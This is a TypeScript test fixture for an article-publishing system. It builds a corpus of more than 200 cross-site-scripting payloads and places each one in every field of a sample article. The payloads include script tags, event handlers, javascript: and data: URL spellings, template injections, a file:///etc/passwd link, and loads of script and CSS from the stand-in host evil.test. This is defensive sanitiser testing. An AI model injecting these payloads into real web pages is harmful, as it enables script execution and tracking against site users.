// The hostile corpus: markup and URL-scheme spellings, and an article carrying one payload everywhere.
import { ARTICLE_FORMAT, parseArticle, type Article } from '../../core/article/article';
import { cleanKeywords } from '../../core/article/keywords';
import { bodyNode, type BodyJSON, type BodyNodeJSON } from '../../core/body/schema';
import { parseBodyHtml } from '../../core/import/html-body';

const markup = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<script>__ran.push("script")</script>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '<!--<script>alert(1)</script>-->',
  '--><script>alert(1)</script>',
  '<!-- x --!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="__ran.push(\'img\')">',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">X</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src onloadstart=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>@import "//evil.test/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="x:expression(alert(1))">x</p>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '`-alert(1)-`',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '\u2028alert(1)\u2029',
  '</script>\u2028<script>alert(1)</script>',
  '"\u2028\u2029</script>',
  '<scr<script>ipt>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '<select><option><script>alert(1)</script>',
  '<table><td background="javascript:alert(1)">',
  '<isindex action=javascript:alert(1) type=image>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x contenteditable onblur=alert(1)>lose focus',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<% alert(1) %>',
  '<a href="#" onclick="alert(1)">#</a>',
  '<div onpointerover="alert(1)">x</div>',
  '<style>*{display:none}</style>',
  '<h1>Fake headline</h1>',
  '<article><h1>nested</h1></article>',
  '<img src="https://evil.test/track.gif">',
  '\u202Eevil\u202C',
  '\u200b<script>alert(1)</script>',
  '\ufeff<script>alert(1)</script>',
  'Ünïcödé 中文 🙂 — “quotes” & ampersands',
  'a & b < c > d " e \' f',
  '&amp;amp;',
  '&',
  '<',
  '</',
  '<!--',
  '-->',
  ']]>',
  '</title>',
  '</script>',
  '</SCRIPT >',
  '</style>',
];

const spellings = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\u0000script:alert(1)',
  'javascript&#58;alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'jav&#x09;ascript:alert(1)',
  'jav&#9;ascript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u000bjavascript:alert(1)',
  'javascript://%0aalert(1)',
  'javascript:/*-->*/alert(1)',
  'javascript:eval("al"+"ert(1)")',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'livescript:alert(1)',
  'file:///etc/passwd',
  'https://ok.example/"><script>alert(1)</script>',
  'https://ok.example/?q=<script>alert(1)</script>',
  "https://ok.example/' onmouseover='alert(1)",
  'mailto:a@b.test?subject=<script>alert(1)</script>',
  'http://a.test/#javascript:alert(1)',
];

/** ≥200 payloads: markup, scheme spellings as text, as HTML links, and wrapped in ordinary copy. */
export const payloads = [
  ...new Set([
    ...markup,
    ...spellings,
    ...spellings.map((s) => `<a href="${s}">click</a>`),
    ...markup.slice(0, 60).map((m) => `Ferry strike: ${m} ends`),
  ]),
].filter((p) => p.trim() !== '' && !p.includes('\u0000') && !p.includes('\r'));

const built = new Map<string, Article>();

/** The article with payload `p` everywhere (built once per payload, reused by every form). */
export function hostileArticle(p: string): Article {
  let article = built.get(p);
  if (!article) built.set(p, (article = buildHostileArticle(p)));
  return article;
}

function buildHostileArticle(p: string): Article {
  const text = (value: string, marks?: BodyNodeJSON['marks']): BodyNodeJSON =>
    marks ? { type: 'text', text: value, marks } : { type: 'text', text: value };
  const typed: BodyNodeJSON[] = [
    { type: 'paragraph', content: [text(p)] },
    { type: 'heading', attrs: { level: 2 }, content: [text(p, [{ type: 'bold' }])] },
    {
      type: 'paragraph',
      content: [
        text('target ', [{ type: 'link', attrs: { href: p } }]),
        text(p, [{ type: 'link', attrs: { href: 'https://ok.example/' } }, { type: 'italic' }]),
        text(' title', [{ type: 'link', attrs: { href: 'https://ok.example/', title: p } }]),
      ],
    },
    {
      type: 'figure',
      attrs: {
        src: p,
        caption: p,
        credit: p,
        photographer: p,
        copyright: p,
        alt: p,
        width: 10,
        height: 10,
      },
    },
  ];
  // Pasted HTML goes through the importer, as a paste or an agency body would.
  const pasted =
    parseBodyHtml(`<p>${p}</p>${p}<p><a href="${p}">pasted link</a></p>`).content ?? [];
  const body = bodyNode({ type: 'doc', content: [...typed, ...pasted] }).toJSON() as BodyJSON;
  return parseArticle({
    format: ARTICLE_FORMAT,
    language: 'en',
    id: '0123456789abcdef',
    kicker: p,
    headline: p,
    standfirst: p,
    byline: p,
    dateline: p,
    // As the editor's field and every importer keep them: split at commas, trimmed.
    keywords: cleanKeywords([p, 'Ferry']),
    published: '2026-11-27T18:05:00+01:00',
    status: 'ready',
    body,
    leadPhoto: {
      file: 'lead.png',
      caption: p,
      credit: p,
      photographer: p,
      copyright: p,
      altText: p,
      width: 1,
      height: 1,
      fromFile: [],
    },
    created: '2026-11-27T09:00:00.000Z',
    updated: '2026-11-27T17:30:00.000Z',
  });
}
